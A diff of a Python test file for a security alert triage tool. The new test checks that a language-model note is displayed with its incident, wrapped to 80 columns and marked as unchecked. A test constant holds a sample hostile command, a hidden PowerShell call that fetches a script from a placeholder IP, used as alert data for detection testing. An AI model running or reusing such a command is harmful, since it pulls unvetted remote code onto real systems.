@@ -12,15 +12,17 @@ from sqlalchemy import Connection
 from tests.triage.language_model import LanguageModel, language_model
 from tests.triage.stored import NOW, TENANT, judged, new
 from vyrox import log
-from vyrox.cli.note_text import note_lines
+from vyrox.cli.incident_text import show_lines
 from vyrox.models import NormalizedAlert
 from vyrox.store import tables as t
 from vyrox.store.database import Database
+from vyrox.triage.incident_ids import IncidentKey
 from vyrox.triage.notes import breaker, client, rows, writer
 from vyrox.triage.notes.client import NoteClient, open_note_http
 from vyrox.triage.notes.redaction import Persons, masked
 from vyrox.triage.notes.rows import read_note
 from vyrox.triage.notes.writer import NoteWriter, open_notes
+from vyrox.triage.shown_incident import show_incident
 
 LINE: Final = "powershell -w hidden -nop -c iwr http://192.0.2.7/tool.ps1"
 LATER: Final = NOW + 100
@@ -78,9 +80,23 @@ async def test_a_note_is_stored_and_changes_nothing_else_contract_61(sqlite: Dat
     assert model.headers[0]["authorization"] == "bearer the-key"
     assert model.requests[0]["model"] == "m"
     assert model.material["alerts"][0]["command_line"] == LINE
-    lines = "\n".join(note_lines(note, 80))
-    assert "written by m at 2026-09-01 00:01:40, not checked" in lines
-    assert max(map(len, lines.splitlines())) <= 80
+
+
+async def test_a_note_is_shown_with_its_incident_contract_61(sqlite: Database) -> None:
+    await judged(sqlite, unclear())
+    long = {**ANSWER, "summary": "x" * 200}
+    async with language_model(long) as model, notes(model, sqlite) as opened:
+        await opened.run()
+    shown = await sqlite.read(show_incident, IncidentKey(TENANT, 1))
+    lines = list(show_lines(shown, 80))
+    at = lines.index("Note of m, 2026-09-01 00:01:40. Nobody has checked it.")
+    assert lines[at + 1] == "  " + "x" * 78
+    assert "  If it is an attack: It is hidden." in lines
+    assert lines[-1] == "    \u201chttp://192.0.2.7/tool.ps1\u201d"
+    assert max(map(len, lines)) <= 80
+    await judged(sqlite, unclear(200))
+    shown = await sqlite.read(show_incident, IncidentKey(TENANT, 1))
+    assert any("before the last change. Nobody" in line for line in show_lines(shown, 80))
 
 
 @pytest.mark.parametrize(
